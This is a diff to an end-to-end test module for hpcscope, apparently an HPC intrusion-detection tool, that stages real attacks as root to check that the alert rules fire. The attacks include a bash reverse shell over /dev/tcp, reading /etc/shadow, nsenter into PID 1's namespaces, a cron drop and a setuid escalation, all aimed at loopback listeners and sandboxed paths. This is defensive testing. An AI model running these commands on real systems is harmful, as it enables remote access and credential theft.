@@ -1,16 +1,17 @@
 """Real attacks on this machine, as root, outside any job, under hpcscope's own sensor and
 through the real pipeline: ``hpcscope sensor`` (bpftrace) writes its export, ``hpcscope
-serve`` tails it as ``tetragon_events_path``, the alert engine judges, ``/api/alerts``
+serve`` tails it as ``tetragon.events_path``, the alert engine judges, ``/api/alerts``
 answers. No event line is written by hand.
 
 The attacks: ``nsenter -t 1`` from a fresh PID and mount namespace (and a real ``setns`` back
 into the test's mount namespace), a binary copied to a temp directory that connects out, a
-reverse shell (``bash -i >& /dev/tcp/127.0.0.1/PORT``) to a loopback listener, ``cat
+reverse shell (``bash -i >& /dev/tcp/127.0.0.2/PORT``) to a loopback listener, ``cat
 /etc/shadow``, a cron file written under ``/etc/cron.d`` in a private mount namespace (a
 tmpfs over it: the real ``/etc`` is untouched), ``strace`` attaching to ``nobody``'s process,
-and a setuid copy of ``id`` in a temp directory run by ``nobody``. The site's rules count
-loopback as outside the cluster (SC-3's ``cluster_cidrs`` without ``127.0.0.0/8``), so the
-connects to the listeners are egress.
+and a setuid copy of ``id`` in a temp directory run by ``nobody``. The listeners are on
+``127.0.0.2``, loopback but outside the site's ``cluster_cidrs`` (the private ranges and
+``127.0.0.1/32``: the machine's own loopback traffic stays inside), so their connects are
+egress.
 
 One run for the module (bpftrace compiles its ~90 probes in 5-30 s); each test asserts what
 one attack raised. Needs root and bpftrace: the run fails without them, it never skips.
@@ -42,9 +43,13 @@ from tests.support.servers import free_port
 pytestmark = pytest.mark.e2e
 
 NODE = "n-attack"
+#: The rules the attacks raise between them.
+EXPECTED = {"CE-3", "SC-2", "SC-3", "SC-8", "CE-4", "GM-3", "CE-6"}
 NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
-#: The site's cluster: private ranges only, loopback is outside (the listeners are egress).
-CLUSTER_CIDRS = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"]
+#: Where the listeners are: loopback, but outside the site's cluster (egress).
+OUTSIDE = "127.0.0.2"
+#: The site's cluster: the private ranges and 127.0.0.1 (the machine's own loopback traffic).
+CLUSTER_CIDRS = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.1/32", "::1/128"]
 
 
 @dataclass
@@ -92,7 +97,7 @@ class Listener:
     exits) and counts the connections."""
 
     def __init__(self) -> None:
-        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.socket = socket.create_server((OUTSIDE, 0))
         self.port = self.socket.getsockname()[1]
         self.accepted = 0
         self._thread = threading.Thread(target=self._serve, daemon=True)
@@ -142,7 +147,7 @@ def _attack(run: Run, port: int, shell_port: int) -> None:
     # namespace entry: nsenter into PID 1's namespaces from a fresh PID and mount namespace
     # (refused where PID 1's /proc/1/ns cannot be opened; the attempt is the alert), and a
     # setns back into the test's own mount namespace from a private one
-    escape = "exec nsenter -t 1 -m -u -n -i -p true"
+    escape = f"exec nsenter -t 1 -m -u -n -i -p true {base.name}"  # this run's, by its marker
     subprocess.run(["unshare", "--fork", "--pid", "--mount", "sh", "-c", escape],
                    capture_output=True, timeout=30)  # fmt: skip
     subprocess.run(["unshare", "--mount", "nsenter", f"--mount=/proc/{os.getpid()}/ns/mnt",
@@ -150,10 +155,10 @@ def _attack(run: Run, port: int, shell_port: int) -> None:
     # a binary copied to a temp directory, connecting out
     agent = base / "update-agent"
     shutil.copy(os.path.realpath("/usr/bin/python3"), agent)
-    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).close()"
+    code = f"import socket; socket.create_connection(('{OUTSIDE}', {port}), timeout=5).close()"
     subprocess.run([str(agent), "-c", code], check=True, timeout=30)
     # a reverse shell to a loopback listener (it answers exit)
-    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1"],
+    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE}/{shell_port} 0>&1"],
                    capture_output=True, timeout=30)  # fmt: skip
     # the host's password hashes
     subprocess.run(["cat", "/etc/shadow"], check=True, stdout=subprocess.DEVNULL, timeout=30)
@@ -190,7 +195,7 @@ def attacks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
     env = {
         **os.environ,
         "HPCSCOPE_RULES_DIR": str(_rules(base / "rules")),
-        "HPCSCOPE_TETRAGON_EVENTS_PATH": str(export),
+        "HPCSCOPE_TETRAGON__EVENTS_PATH": str(export),
         "HPCSCOPE_SCRAPE_INTERVAL_SECONDS": "1",
     }
     run = Run(base)
@@ -208,7 +213,7 @@ def attacks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
         def alerted() -> list[dict[str, Any]] | None:
             found: list[dict[str, Any]] = api(url, "/api/alerts")["alerts"]
             ours = [a for a in found if a["node"] == NODE]
-            return ours if {"GM-3", "SC-3"} <= {a["rule_id"] for a in ours} else None
+            return ours if {a["rule_id"] for a in ours} >= EXPECTED else None
 
         try:
             wait_for(alerted, "the attacks' alerts", timeout=60)
@@ -229,34 +234,49 @@ def attacks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
 
 
 def test_nsenter_into_pid_1s_namespaces(attacks: Run) -> None:
-    (nsenter,) = [p for p in attacks.execs("/nsenter") if p["arguments"].startswith("-t 1 ")]
-    assert nsenter["arguments"] == "-t 1 -m -u -n -i -p true"
+    # the sensor sees every process on the kernel (another run's attacks too): this run's
+    # nsenter -t 1 is the one with its marker (refused: its attempt is the alert); the real
+    # setns is the second nsenter's, into this test process's own mount namespace
+    command = f"-t 1 -m -u -n -i -p true {attacks.base.name}"
+    assert [p for p in attacks.execs("/nsenter") if p["arguments"] == command]
+    back = f"--mount=/proc/{os.getpid()}/ns/mnt true"
+    (nsenter,) = [p for p in attacks.execs("/nsenter") if p["arguments"] == back]
     entered = [k for k in attacks.kprobes("__x64_sys_setns")
-               if k["process"]["binary"].endswith("/nsenter")]  # fmt: skip
-    assert entered and entered[0]["args"][1] == {"int_arg": 0x20000}  # CLONE_NEWNS
+               if k["process"]["exec_id"] == nsenter["exec_id"]]  # fmt: skip
+    assert [k["args"][1] for k in entered] == [{"int_arg": 0x20000}]  # CLONE_NEWNS
     assert entered[0]["policy_name"] == "hpcscope-namespaces"
+    alert = attacks.raised("CE-3", lambda a: command in _text(a))
+    assert (alert["severity"], alert["subject"], alert["job_id"]) == ("HIGH", "nsenter", None)
 
 
 def test_a_binary_copied_to_a_temp_directory_connects_out(attacks: Run) -> None:
     agent = str(attacks.base / "update-agent")
-    (execed,) = attacks.execs("/update-agent")
-    assert execed["binary"] == agent
+    (execed,) = [p for p in attacks.execs("/update-agent") if p["binary"] == agent]
     (connect,) = [k for k in attacks.kprobes("tcp_connect") if k["process"]["binary"] == agent]
     assert connect["process"]["exec_id"] == execed["exec_id"]  # chained to its exec
-    assert connect["args"][0]["sock_arg"]["daddr"] == "127.0.0.1"
-    egress = attacks.raised("SC-3", lambda a: agent in _text(a))
-    assert egress["severity"] in ("HIGH", "CRITICAL")
+    assert connect["args"][0]["sock_arg"]["daddr"] == OUTSIDE
+    dropped = attacks.raised(
+        "SC-2", lambda a: a["subject"] == agent and a["severity"] == "CRITICAL"
+    )
+    assert dropped["job_id"] is None
+    attacks.raised("SC-3", lambda a: agent in _text(a))
 
 
 def test_a_reverse_shell_to_a_loopback_listener(attacks: Run) -> None:
-    (shell,) = [p for p in attacks.execs("bash") if "/dev/tcp/127.0.0.1/" in p["arguments"]]
+    tcp = f"/dev/tcp/{OUTSIDE}/{attacks.pids['shell port']} "
+    (shell,) = [
+        p
+        for p in attacks.execs("/bash")
+        if p["arguments"].startswith("-c ") and tcp in p["arguments"]
+    ]
     (connect,) = [k for k in attacks.kprobes("tcp_connect")
                   if k["args"][0]["sock_arg"]["dport"] == attacks.pids["shell port"]]  # fmt: skip
     process = connect["process"]
     assert process["binary"].endswith("/bash")
     # bash forks for the redirection: its child connects (a clone of the shell's exec)
     assert shell["exec_id"] in (process["exec_id"], process.get("parent_exec_id"))
-    attacks.raised("SC-3", lambda a: "bash" in _text(a))
+    alert = attacks.raised("SC-8", lambda a: f"{OUTSIDE}:{attacks.pids['shell port']}" in _text(a))
+    assert (alert["severity"], alert["subject"]) == ("CRITICAL", "bash")  # outside: CRITICAL
 
 
 def test_reading_etc_shadow(attacks: Run) -> None:
@@ -264,6 +284,8 @@ def test_reading_etc_shadow(attacks: Run) -> None:
              if k["args"][0]["file_arg"]["path"] == "/etc/shadow"
              and k["process"]["binary"].endswith("/cat")]  # fmt: skip
     assert reads and reads[0]["policy_name"] == "hpcscope-sensitive-files"
+    alert = attacks.raised("CE-4", lambda a: a["subject"] == "/etc/shadow" and "cat" in _text(a))
+    assert alert["severity"] == "HIGH"
 
 
 def test_a_cron_file_written_under_a_sandboxed_etc(attacks: Run) -> None:
@@ -272,6 +294,8 @@ def test_a_cron_file_written_under_a_sandboxed_etc(attacks: Run) -> None:
               if k["args"][0]["file_arg"]["path"] == path]  # fmt: skip
     assert writes and writes[0]["args"][1] == {"int_arg": 2}  # MAY_WRITE
     assert writes[0]["args"][2] == {"size_arg": str(len("* * * * * root id\n"))}
+    alert = attacks.raised("CE-4", lambda a: a["subject"] == path)
+    assert alert["severity"] == "HIGH" and "write of" in _text(alert)
 
 
 def test_ptrace_of_another_users_process(attacks: Run) -> None:
@@ -288,3 +312,5 @@ def test_a_setuid_binary_in_a_temp_directory_gains_uid_0(attacks: Run) -> None:
     assert creds["process"]["uid"] == 65534
     assert creds["args"] == [{"process_credentials_arg": {"uid": 65534, "euid": 0}}]
     assert creds["policy_name"] == "hpcscope-credentials"
+    alert = attacks.raised("CE-6", lambda a: a["subject"] == su)
+    assert alert["severity"] == "CRITICAL"  # from a temp directory
